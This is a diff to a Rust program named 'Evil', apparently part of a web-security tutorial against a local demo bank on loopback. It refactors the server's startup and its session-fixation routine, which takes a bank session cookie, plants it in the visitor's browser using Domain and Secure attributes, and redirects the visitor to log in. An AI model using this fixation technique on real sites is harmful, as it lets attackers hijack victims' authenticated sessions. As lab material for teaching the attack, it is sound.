@@ -3,8 +3,9 @@
 //! It uses nothing but what every web page may do: forms, images, links, and cookies for its own
 //! host. For the bank of this folder, on loopback.
 
-use std::io::{self, Read as _};
+use std::io::Read as _;
 use std::net::{TcpListener, TcpStream};
+use std::process::ExitCode;
 use std::sync::{Mutex, PoisonError};
 use std::time::Duration;
 
@@ -40,7 +41,6 @@ struct Evil {
     prepared: Mutex<Option<String>>,
 }
 
-// ANCHOR: pages
 impl Evil {
     fn answer(&self, head: &RequestHead) -> anyhow::Result<Response> {
         let bank = format!("http://{}", self.options.bank.host_field());
@@ -73,26 +73,27 @@ impl Evil {
         }
     }
 }
-// ANCHOR_END: pages
 
-// ANCHOR: fixate
 impl Evil {
     /// Takes a session at the bank, puts it into the visitor's browser, and sends the visitor there
     /// to log in. A cookie knows no port, and with `Domain` it reaches the hosts beside ours.
     fn fixate(&self, bank: &str) -> anyhow::Result<Response> {
         let (head, _) = self.get("/", None)?;
-        let field = head.fields.get_str("Set-Cookie").context("the bank gives no session")?;
+        let given = head.fields.get_str("Set-Cookie").context("the bank gives no session")?;
         let start = format!("{}=", self.options.cookie);
-        let value = field.strip_prefix(&start).context("the bank's cookie has another name")?;
+        let value = given.strip_prefix(&start).context("the bank's cookie has another name")?;
         let value = value.split(';').next().unwrap_or_default();
         *self.prepared.lock().unwrap_or_else(PoisonError::into_inner) = Some(value.to_owned());
-        let domain = match &self.options.domain {
-            Some(domain) => format!("; Domain={domain}"),
-            None => String::new(),
-        };
+        let mut field = format!("{start}{value}; Path=/");
+        if let Some(domain) = &self.options.domain {
+            field += &format!("; Domain={domain}");
+        }
+        if self.options.cookie.starts_with("__") {
+            field += "; Secure";
+        }
         let mut page = Response::new(Status::SEE_OTHER, "the session waits for you\n");
         page.fields.append("Location", format!("{bank}/"))?;
-        page.fields.append("Set-Cookie", format!("{start}{value}; Path=/{domain}"))?;
+        page.fields.append("Set-Cookie", field)?;
         Ok(page)
     }
 
@@ -104,7 +105,6 @@ impl Evil {
         Ok(text(&format!("the bank says: {balance}")))
     }
 }
-// ANCHOR_END: fixate
 
 impl Evil {
     /// One request to the bank, as anybody may send it.
@@ -134,7 +134,7 @@ impl Evil {
     }
 
     fn handle(&self, head: &RequestHead, _: &mut RequestBody<'_>) -> Response {
-        let mut response = self
+        let response = self
             .answer(head)
             .unwrap_or_else(|error| Response::new(Status::BAD_GATEWAY, format!("{error:#}\n")));
         println!("{} {} {}", head.method.as_str(), head.target.as_str(), response.status.code());
@@ -156,15 +156,26 @@ fn respond(body: String, kind: &str) -> Response {
     response
 }
 
-fn main() -> anyhow::Result<()> {
-    let evil = Evil { options: Options::parse(), prepared: Mutex::default() };
+fn main() -> ExitCode {
+    match open(Options::parse()) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(error) => {
+            eprintln!("evil: {error:#}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+/// Serves until Ctrl-C.
+fn open(options: Options) -> anyhow::Result<()> {
+    let evil = Evil { options, prepared: Mutex::default() };
     let address = &evil.options.address;
     let listener =
         TcpListener::bind(address).with_context(|| format!("cannot listen on {address}"))?;
     println!("listening on http://{}/", listener.local_addr()?);
     let stop = Stop::new();
     let switch = stop.clone();
-    ctrlc::set_handler(move || switch.now()).map_err(io::Error::other)?;
+    ctrlc::set_handler(move || switch.now())?;
     let server = Server::new(Config::default());
     server.serve(&listener, &stop, move |head, body| evil.handle(head, body))?;
     Ok(())
